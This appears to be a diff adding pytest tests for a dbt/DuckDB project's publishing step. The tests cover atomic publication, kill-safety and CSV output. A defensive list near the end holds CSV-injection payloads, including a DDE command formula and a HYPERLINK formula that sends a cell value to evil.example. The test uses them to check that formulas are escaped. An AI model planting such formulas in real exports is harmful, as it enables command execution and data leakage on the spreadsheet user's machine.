@@ -1,0 +1,355 @@
+"""The published copy: never locked, never half, never of a build that was not whole; in CSV without formulas."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import duckdb
+import pytest
+from dbt_common.exceptions import DbtRuntimeError
+from harness import PROJECT, Row, dbt, must_pass, read_raw, write_raw
+
+from scripts.publish import prepare, put_file_in_place, put_folder_in_place
+
+BUILD = ("build", "--exclude-resource-type", "test", "unit_test")
+
+# A reader in a process of its own: reads again and again, and writes down what it saw. {0} relation as the format has it.
+READER = """
+import json, os, sys, time, duckdb
+path, stop = sys.argv[1:]
+while not os.path.exists(stop):
+    if path.endswith(".duckdb"):
+        connection, place = duckdb.connect(path, read_only=True), "{}"
+    else:  # the link is followed once, so that all files are of one version
+        connection, place = duckdb.connect(), f"'{os.path.realpath(path)}/{{}}.parquet'"
+    ask = lambda query: connection.execute(query).fetchall()
+    relation = place.format
+    (build,) = ask(f"select build_id from {relation('publication')}")
+    attributed = ask(f'''
+        select attribution_model, sum(attributed_revenue) from {relation('fct_attribution')}
+        where conversion_type = 'revenue' group by attribution_model order by attribution_model''')
+    reconciled = ask(f'''
+        select attribution_model, attributed_amount from {relation('rpt_reconciliation')}
+        where conversion_type = 'revenue' order by attribution_model''')
+    rows = [ask(f"select count(*) from {relation(mart)}")[0][0]
+            for mart in ("fct_attribution", "rpt_attribution", "explain_attribution")]
+    connection.close()
+    assert attributed == reconciled and len(set(rows)) == 1, (build, attributed, reconciled, rows)
+    print(json.dumps([build[0], str(attributed), rows[0]]), flush=True)
+"""
+
+
+class Reader:
+    """The reader above, on a copy at `path`, until it is asked what it saw."""
+
+    def __init__(self, path: Path, folder: Path) -> None:
+        self.stop, self.seen = folder / f"stop {path.name}", (folder / f"seen {path.name}").open("w+")
+        command = [sys.executable, "-c", READER, str(path), str(self.stop)]
+        self.process = subprocess.Popen(command, stdout=self.seen, stderr=subprocess.PIPE, text=True)
+
+    def states(self) -> list[tuple]:
+        """Every state that was read, in order, each once: build, attributed revenue per model, rows of the attribution."""
+        self.stop.touch()
+        _, errors = self.process.communicate(timeout=60)
+        assert self.process.returncode == 0, errors
+        self.seen.seek(0)
+        states = [tuple(json.loads(line)) for line in self.seen]
+        assert len(states) > 5
+        return [state for number, state in enumerate(states) if number == 0 or state != states[number - 1]]
+
+
+def state_of(database: Path) -> tuple:
+    """What the reader would see if it could read the database that dbt builds."""
+    with duckdb.connect(database, read_only=True) as connection:
+        (build,) = connection.execute("select build_id from main_raw.last_build").fetchone()
+        attributed = connection.execute("""
+            select attribution_model, sum(attributed_revenue) from fct_attribution
+            where conversion_type = 'revenue' group by attribution_model order by attribution_model""").fetchall()
+        (rows,) = connection.execute("select count(*) from fct_attribution").fetchone()
+    return build, str(attributed), rows
+
+
+def bytes_of(path: Path) -> dict[str, str]:
+    """Hash of a file, or of each file of a folder."""
+    files = [path] if path.is_file() else sorted(path.iterdir())
+    return {file.name: hashlib.sha256(file.read_bytes()).hexdigest() for file in files}
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with the demo's raw files, built and published once."""
+    folder = tmp_path_factory.mktemp("publish")
+    shutil.copytree(PROJECT / "seeds/demo", folder / "raw")
+    must_pass(dbt(*BUILD, folder=folder, variables=to_file(folder)))
+    return folder
+
+
+def to_file(folder: Path) -> Row:
+    """Vars of a build of the folder's raw files that publishes a database file."""
+    return {"raw_path": str(folder / "raw"), "publish_path": str(folder / "bi/copy.duckdb")}
+
+
+def change_deals(folder: Path, digit: str) -> None:
+    """Changes what every build after it has to say about revenue: a digit before every amount, and one deal less."""
+    raw = read_raw(folder / "raw")
+    for deal in raw["deals"]:
+        if deal["amount"] and deal["amount"][0].isdigit():
+            deal["amount"] = digit + deal["amount"]
+    write_raw({"deals": raw["deals"][:-1]}, folder / "raw")
+
+
+def test_readers_see_whole_builds_only(folder: Path) -> None:
+    """While it is built again and again with other data; a failed and a selective build publish nothing and say so."""
+    copy, database, variables = folder / "bi/copy.duckdb", folder / "tributary.duckdb", to_file(folder)
+    published = [state_of(database)]
+    reader = Reader(copy, folder)
+    held = duckdb.connect(copy, read_only=True)
+
+    change_deals(folder, "3")
+    must_pass(dbt(*BUILD, folder=folder, variables=variables))
+    published.append(state_of(database))
+
+    change_deals(folder, "5")
+    (folder / "raw/owners.csv").write_text("owner_id,owner_name\n" + "o,x\n" * 99, encoding="utf-8")
+    failed = dbt(*BUILD, folder=folder, variables=variables)
+    assert failed.returncode != 0
+    assert f"Nothing was published to {copy}: " in failed.stdout
+    assert "the first of them quarantine" in failed.stdout
+    selective = must_pass(dbt(*BUILD, "--select", "path:models/marts/core", folder=folder, variables=variables))
+    assert "models were not in this run. What was published before stays." in selective.stdout
+    refused = dbt("run-operation", "publish", folder=folder, variables=variables)
+    assert refused.returncode != 0
+    assert "The last build failed, was of a selection, or has never been" in refused.stdout
+
+    shutil.copy(PROJECT / "seeds/demo/owners.csv", folder / "raw")
+    must_pass(dbt(*BUILD, folder=folder, variables=variables))
+    published.append(state_of(database))
+
+    assert reader.states() == published
+    assert len({attributed for _, attributed, _ in published}) == 3
+    # Who opened the first one goes on reading it, also what it had not read before.
+    assert held.execute("select build_id from publication").fetchone() == (published[0][0],)
+    assert (
+        held.execute("select count(*), count(explanation) from explain_attribution").fetchone()
+        == (published[0][2],) * 2
+    )
+    held.close()
+
+
+def test_the_copy_is_all_of_the_marts(folder: Path) -> None:
+    """Every mart, cell by cell, by the file alone under any name: nothing in it refers to the database or to raw files."""
+    moved = shutil.copy(folder / "bi/copy.duckdb", folder / "elsewhere.duckdb")
+    with duckdb.connect() as connection:
+        connection.execute(
+            f"attach '{folder / 'tributary.duckdb'}' as built (read_only); attach '{moved}' as copy (read_only)"
+        )
+        names = "select table_name from duckdb_tables() where database_name = '{0}' and schema_name = 'main' union all "
+        names += (
+            "select view_name from duckdb_views() where database_name = '{0}' and schema_name = 'main' and not internal"
+        )
+        marts = {name for (name,) in connection.execute(names.format("built")).fetchall()}
+        assert {name for (name,) in connection.execute(names.format("copy")).fetchall()} == marts | {"publication"}
+        assert len(marts) > 20
+        for mart in marts:
+            difference = f"(from built.main.{mart} except all from copy.main.{mart})"
+            difference += f" union all (from copy.main.{mart} except all from built.main.{mart})"
+            assert connection.execute(f"select count(*) from ({difference})").fetchone() == (0,), mart
+        # Stored once: what reads nothing but marts.
+        views = connection.execute("select view_name from duckdb_views() where database_name = 'copy' and not internal")
+        assert {"fct_attribution", "rpt_attribution"} <= {name for (name,) in views.fetchall()}
+
+
+@pytest.mark.parametrize("format", ["duckdb", "parquet"])
+def test_a_killed_publication_leaves_the_one_before(format: str, folder: Path) -> None:
+    """SIGKILL while the copy is written, at several moments; the next one goes through and clears up."""
+    variables = to_file(folder)
+    if format != "duckdb":
+        variables |= {"publish_path": str(folder / "files"), "publish_format": format}
+    path = Path(variables["publish_path"])
+    place = path.parent if format == "duckdb" else path
+    must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
+    current = path if format == "duckdb" else path / "current"
+    before = bytes_of(current)
+    reader = Reader(current, folder)
+    command = [sys.executable, "-m", "dbt.cli.main", "run-operation", "publish", "--vars", json.dumps(variables)]
+    command += ["--target-path", str(folder / "target"), "--log-path", str(folder / "logs")]
+    environment = os.environ | {"TRIBUTARY_DATABASE": str(folder / "tributary.duckdb")}
+    known, killed = set(place.glob("*.next-*")), 0
+    for delay in (0, 0.1, 0.25, 0.4):
+        process = subprocess.Popen(
+            command,
+            cwd=PROJECT,
+            env=environment,
+            start_new_session=True,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        while process.poll() is None and set(place.glob("*.next-*")) <= known:
+            time.sleep(0.005)
+        time.sleep(delay)
+        os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+        known = set(place.glob("*.next-*"))
+        killed += bool(known)
+        if known:
+            assert bytes_of(current) == before
+    assert killed > 1
+    must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
+    assert list(place.glob("*.next-*")) == []
+    assert len({state[0] for state in reader.states()}) == 1
+    if format != "duckdb":
+        assert len(list(path.glob("v*"))) == 2
+
+
+# Stops dead, as by SIGKILL, at the n-th step that changes a folder.
+KILLED_AT_STEP = """
+import os, shutil, sys
+from pathlib import Path
+import scripts.publish as publish
+path, number = Path(sys.argv[1]), int(sys.argv[2])
+def counted(step):
+    def call(*arguments, **named):
+        global number
+        number -= 1
+        if number < 0:
+            os.kill(os.getpid(), 9)
+        return step(*arguments, **named)
+    return call
+os.rename, os.replace, shutil.rmtree = map(counted, (os.rename, os.replace, shutil.rmtree))
+Path.symlink_to, publish.flush = counted(Path.symlink_to), counted(publish.flush)
+following = path / ".next-killed"
+publish.prepare(path, following, Path("other.duckdb"), False)
+(following / "a.csv").write_text("new")
+(following / "b.csv").write_text("new")
+publish.put_folder_in_place(path, following)
+"""
+
+
+def publish_folder(path: Path, text: str) -> None:
+    """Publishes two files with a text."""
+    following = path / ".next-x"
+    prepare(path, following, Path("other.duckdb"), False)
+    for name in ("a.csv", "b.csv"):
+        (following / name).write_text(text, encoding="utf-8")
+    put_folder_in_place(path, following)
+
+
+def test_a_folder_is_old_or_new_wherever_the_process_stops(tmp_path: Path) -> None:
+    """At every step; the version before stays for those who read it, and the next publication leaves these two alone."""
+    codes = []
+    for step in range(12):
+        path = tmp_path / str(step)
+        for text in ("older", "old"):
+            publish_folder(path, text)
+        command = [sys.executable, "-c", KILLED_AT_STEP, str(path), str(step)]
+        environment = os.environ | {"PYTHONPATH": str(PROJECT)}
+        codes.append(subprocess.run(command, env=environment, check=False).returncode)
+        shown = {file.read_text(encoding="utf-8") for file in (path / "current").iterdir()}
+        assert shown in ({"old"}, {"new"})
+        (kept,) = shown
+        publish_folder(path, "next")
+        assert {(folder / "a.csv").read_text(encoding="utf-8") for folder in path.iterdir()} == {kept, "next"}
+        assert len([entry for entry in path.iterdir() if not entry.is_symlink()]) == 2
+        assert list(path.glob(".next-*")) == []
+    assert codes[0] == -signal.SIGKILL
+    assert codes[-1] == 0
+
+
+def test_nothing_but_a_copy_is_replaced(tmp_path: Path) -> None:
+    """A path that is the database itself, another kind of file or a folder is refused, and untouched."""
+    database, note = tmp_path / "tributary.duckdb", tmp_path / "note.txt"
+    duckdb.connect(database).close()
+    note.write_text("keep", encoding="utf-8")
+    for path in (database, note, tmp_path):
+        with pytest.raises(DbtRuntimeError, match="give another path"):
+            prepare(path, path.with_name(path.name + ".next-1"), database, True)
+    assert note.read_text(encoding="utf-8") == "keep"
+    unlike = tmp_path / "[a]*.duckdb"
+    (tmp_path / "ab.duckdb.next-1").touch()
+    (tmp_path / "[a]*.duckdb.next-1").touch()
+    prepare(unlike, tmp_path / "[a]*.duckdb.next-2", database, True)
+    assert {path.name for path in tmp_path.glob("*.next-*")} == {"ab.duckdb.next-1"}
+
+
+def test_a_copy_that_does_not_stand_alone_is_not_published(tmp_path: Path) -> None:
+    """A view that reads another database would work here and for no reader."""
+    path, following = tmp_path / "copy.duckdb", tmp_path / "copy.duckdb.next-1"
+    with duckdb.connect() as connection:
+        connection.execute(f"create table here as select 1 as a; attach '{following}' as copy")
+        connection.execute("create view copy.main.there as from memory.main.here; detach copy")
+    with pytest.raises(duckdb.Error):
+        put_file_in_place(path, following)
+    assert not path.exists()
+
+
+def test_a_log_that_someone_wrote_beside_the_copy_goes(tmp_path: Path) -> None:
+    """A reader that opened the copy to write and died leaves a .wal, which is not of the next one."""
+    path, following = tmp_path / "copy.duckdb", tmp_path / "copy.duckdb.next-1"
+    for file, number in ((path, 1), (following, 2)):
+        with duckdb.connect(file) as connection:
+            connection.execute(f"create table t as select {number} as a")
+    Path(f"{path}.wal").write_bytes(b"of the file before")
+    put_file_in_place(path, following)
+    with duckdb.connect(path, read_only=True) as connection:
+        assert connection.execute("from t").fetchall() == [(2,)]
+
+
+# Begins like a formula for some spreadsheet (OWASP, "CSV Injection").
+FORMULAS = [
+    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "\ttab", "＝1+1", "＋1", "－1", "＠SUM(A1)",
+    '"=1+1', "'=1+1", "''=1", '"  =1+1', "' \t@x", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff=1", "`=1", "“=1+1”", "-", "=", "+49 30 1",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1\n=2", '","=1', "\u0000=1",
+]  # fmt: skip
+HARMLESS = [
+    "Renewal", "a=b", "1-2", "1+1", "x@y", "(=1)", "#N/A", "'quoted'", '"quoted" = no', "|=1", "…-", "–1", "Ünïcode", "a\n=b", ";=1", "0",
+    "'", "'tis", "_=1", "%=1", "a, b", "\\=1",
+]  # fmt: skip
+
+
+def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
+    """Texts that begin like one get an apostrophe, and only those; numbers and dates stay what they are."""
+    texts = [text for text in FORMULAS if "\0" not in text] + HARMLESS
+    opened = {"created_at": "2026-01-01", "amount": "-5.5", "currency_code": "USD", "stage_id": "open"}
+    deals = [{"deal_id": f"d{number}", "deal_name": text} | opened for number, text in enumerate(texts)]
+    owner = {"deal_id": "d", "owner_id": "=1", "deal_type": "-x", "stage_id": "@s"}
+    write_raw(
+        {
+            "contacts": [{"contact_id": "=c", "created_at": "2026-01-01"}],
+            "deals": [*deals, owner],
+            "campaigns": [{"campaign_id": "+c", "campaign_name": "=n", "budget": "5", "currency_code": "USD"}],
+            "campaign_spend": [
+                {"campaign_id": "+c", "spend_date": "2026-01-01", "amount": "7.5", "currency_code": "USD"}
+            ],
+        },
+        tmp_path / "raw",
+    )
+    files = {"publish_path": str(tmp_path / "bi"), "publish_format": "csv", "max_quarantine_share": 1}
+    must_pass(dbt(*BUILD, folder=tmp_path, variables=files | {"raw_path": str(tmp_path / "raw")}))
+
+    def published(mart: str) -> list[dict[str, str]]:
+        with (tmp_path / f"bi/current/{mart}.csv").open(encoding="utf-8", newline="") as file:
+            return list(csv.DictReader(file))
+
+    names = {row["deal_id"]: row["deal_name"] for row in published("dim_deals")}
+    expected = {f"d{number}": ("'" if text in FORMULAS else "") + text for number, text in enumerate(texts)}
+    assert {deal: name for deal, name in names.items() if deal != "d"} == expected
+    (campaign,) = published("rpt_campaign_performance")
+    assert (campaign["campaign_id"], campaign["campaign_name"]) == ("'+c", "'=n")
+    assert (campaign["budget"], campaign["spend"], campaign["remaining_budget"]) == ("5.0000", "7.5000", "-2.5000")
+    (other,) = (row for row in published("dim_deals") if row["deal_id"] == "d")
+    assert (other["owner_id"], other["deal_type"], other["stage_id"]) == ("'=1", "'-x", "'@s")
+    for file in (tmp_path / "bi/current").iterdir():
+        for row in published(file.stem):
+            for column, cell in row.items():
+                bare = cell.lstrip(' \u00a0"')
+                assert not bare.startswith(tuple("=+@＝＋－＠\t\r\n")), (file.name, column, cell)
+                assert not bare.startswith("-") or float(bare), (file.name, column, cell)
